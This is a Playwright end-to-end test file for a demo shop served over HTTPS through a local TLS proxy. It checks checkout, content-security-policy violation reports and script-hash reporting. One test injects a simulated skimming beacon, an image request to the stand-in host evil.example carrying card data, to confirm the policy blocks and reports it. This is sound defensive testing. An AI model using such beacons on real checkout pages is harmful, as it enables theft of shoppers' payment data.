/** The demo behind a proxy that ends TLS, as in real life: what browsers do only over HTTPS is done for real here. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext } from 'playwright-core';
import { browsersToTest, chromiumArgs, launch } from '#browsers';
import type { WireEvidence, WireFinding } from '../../src/api/wire-evidence.js';
import { newAdminKey } from '../../src/server/index.js';
import { shopper, words } from '../support/shopper.js';
import { makeCertificate, startTlsProxy, type TlsProxy } from '../support/tls.js';
import { startWorld, type World } from '../support/world.js';

const KEY = newAdminKey();

for (const name of browsersToTest()) {
  if (name === 'webkit') continue; // Its driver trusts no certificate made here.

  describe(`a shop over HTTPS in ${name}`, () => {
    let browser: Browser;
    let proxy: TlsProxy;
    let world: World;
    let origin: string;
    before(async () => {
      const certificate = await makeCertificate(['localhost']);
      proxy = await startTlsProxy(certificate, () => world.recorder.port);
      origin = `https://localhost:${proxy.port}`;
      world = await startWorld({ env: { PUBLIC_URL: origin, TRUST_PROXY: '1', ADMIN_KEY: KEY } });
      const trusted = [
        `--ignore-certificate-errors-spki-list=${certificate.spki}`,
        '--short-reporting-delay',
      ];
      browser = await launch(name, name === 'chromium' ? { args: [...chromiumArgs, ...trusted] } : {});
    });
    after(async () => {
      await browser.close();
      await world.close();
      await proxy.close();
    });
    // Chromium reports to nobody whose certificate it was only told to overlook: there the key itself is trusted.
    const visit = (): Promise<BrowserContext> =>
      browser.newContext({ ignoreHTTPSErrors: name !== 'chromium' });

    /** Until the store has been told of it. */
    async function told(fits: (finding: WireFinding) => boolean): Promise<readonly WireFinding[]> {
      for (const end = Date.now() + 20_000; ;) {
        const answer = await fetch(`${world.shop}/store/admin/evidence`, {
          headers: { authorization: `Bearer ${KEY}` },
        });
        const { findings } = (await answer.json()) as WireEvidence;
        if (findings.some(fits)) return findings;
        if (Date.now() > end) throw new Error(`nobody told of it: ${JSON.stringify(findings)}`);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    }

    it('sells from cart to receipt, and says that the connection is encrypted (MSG-1, PCI-4)', async () => {
      const context = await visit();
      const ana = shopper(await context.newPage(), origin);
      await ana.go('/');
      await ana.addToCart('Tea bowl');
      await ana.go('/checkout.html');
      await ana.fillDetails();
      const { host } = new URL(origin);
      await ana.page.locator('store-checkout .secure.test').waitFor();
      await ana.page.locator('store-checkout .secure summary').click();
      await ana.page
        .locator('store-checkout .secure li')
        .filter({ hasText: words('security.https', { host }) })
        .waitFor();
      await ana.typeCard({ number: '4242424242424242', expiry: '12/30', cvc: '123' });
      await ana.pay();
      await ana.status.filter({ hasText: words('order.paid') }).waitFor();
      await context.close();
    });

    it('the browser itself tells the store what the policy refused, and of which page (PCI-7)', async () => {
      const context = await visit();
      const page = await context.newPage();
      await page.goto(`${origin}/checkout.html?visitor=ana#key`);
      await page.evaluate(() => void (new Image().src = 'https://evil.example/pixel.gif?card=1#2'));
      const found = await told(({ subject }) => subject === 'https://evil.example/pixel.gif');
      const [violation] = found.filter(({ kind }) => kind === 'violation');
      assert.deepEqual(
        [violation?.page, violation?.subject, violation?.detail],
        ['/checkout.html', 'https://evil.example/pixel.gif', 'img-src'],
      );
      assert.doesNotMatch(JSON.stringify(found), /visitor|ana|card=|#key/);
      await context.close();
    });

    if (name === 'chromium')
      it('Chromium tells the hash of every script that ran, which is the file’s (PCI-5, PCI-7)', async () => {
        const context = await visit();
        await (await context.newPage()).goto(`${origin}/cart.html`);
        const entry = `${origin}/store-elements/store-elements.js`;
        const found = await told(({ page, subject }) => page === '/cart.html' && subject === entry);
        const hash = createHash('sha256').update(readFileSync('dist/cdn/store-elements.js')).digest('base64');
        const scripts = found.filter(({ page, kind }) => page === '/cart.html' && kind === 'script');
        assert.equal(scripts.find(({ subject }) => subject === entry)?.detail, `sha256-${hash}`);
        assert.ok(scripts.every(({ detail }) => detail.startsWith('sha256-')));
        await context.close();
      });
  });
}
